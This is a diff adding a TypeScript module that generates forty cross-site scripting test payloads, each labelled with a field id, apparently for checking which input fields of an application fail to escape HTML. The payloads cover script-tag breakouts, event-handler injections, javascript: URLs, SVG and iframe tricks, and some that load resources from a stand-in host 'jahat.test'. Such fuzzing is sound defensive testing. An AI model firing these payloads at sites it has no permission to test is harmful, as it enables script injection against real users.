@@ -1,0 +1,48 @@
+/** Ways to get a script to run out of a text, each with its number in it. None is longer than the shortest field. */
+const makers: ((id: string) => string)[] = [
+  (id) => `<script>alert(${id})</script>`,
+  (id) => `</script><script>alert(${id})</script>`,
+  (id) => `</ScRiPt ><ScRiPt>alert(${id})</ScRiPt>`,
+  (id) => `</title><script>alert(${id})</script>`,
+  (id) => `</textarea><script>alert(${id})</script>`,
+  (id) => `</style><script>alert(${id})</script>`,
+  (id) => `<!--><script>alert(${id})</script>`,
+  (id) => `--><script>alert(${id})</script><!--`,
+  (id) => `]]><script>alert(${id})</script>`,
+  (id) => `"><script>alert(${id})</script>`,
+  (id) => `'><script>alert(${id})</script>`,
+  (id) => `"><img src=x onerror=alert(${id})>`,
+  (id) => `<img src=x onerror=alert(${id})>`,
+  (id) => `<img src="x" onerror="alert(${id})"`,
+  (id) => `<svg onload=alert(${id})>`,
+  (id) => `<svg><script>alert(${id})</script></svg>`,
+  (id) => `<svg><a xlink:href="javascript:alert(${id})"><text>x`,
+  (id) => `<math><mtext><style><img src=x onerror=alert(${id})>`,
+  (id) => `<iframe src="javascript:alert(${id})"></iframe>`,
+  (id) => `<iframe srcdoc="<script>alert(${id})</script>">`,
+  (id) => `<object data="javascript:alert(${id})">`,
+  (id) => `<embed src="javascript:alert(${id})">`,
+  (id) => `<a href="javascript:alert(${id})">x</a>`,
+  (id) => `<a href="java\tscript:alert(${id})">x</a>`,
+  (id) => `<form action="javascript:alert(${id})"><button>x`,
+  (id) => `<button formaction="javascript:alert(${id})">x`,
+  (id) => `<base href="https://jahat.test/${id}/">`,
+  (id) => `<meta http-equiv=refresh content="0;javascript:alert(${id})">`,
+  (id) => `<link rel=stylesheet href="https://jahat.test/${id}.css">`,
+  (id) => `<style>@import 'https://jahat.test/${id}.css';</style>`,
+  (id) => `<div style="background:url(javascript:alert(${id}))">`,
+  (id) => `<details open ontoggle=alert(${id})>`,
+  (id) => `<input autofocus onfocus=alert(${id})>`,
+  (id) => `" onmouseover="alert(${id})" x="`,
+  (id) => `' onmouseover='alert(${id})' x='`,
+  (id) => `\` onmouseover=alert(${id}) x=\``,
+  (id) => `javascript:alert(${id})//`,
+  (id) => `&lt;script&gt;alert(${id})&lt;/script&gt;`,
+  (id) => `\\u003cscript\\u003ealert(${id})\\u003c/script\\u003e`,
+  (id) => `\${alert(${id})}{{alert(${id})}}\u2028alert(${id})`,
+];
+
+/** Forty payloads; `word` tells those of one field from those of another. */
+export function payloads(word: string): string[] {
+  return makers.map((make, index) => make(`${word}${index}`));
+}
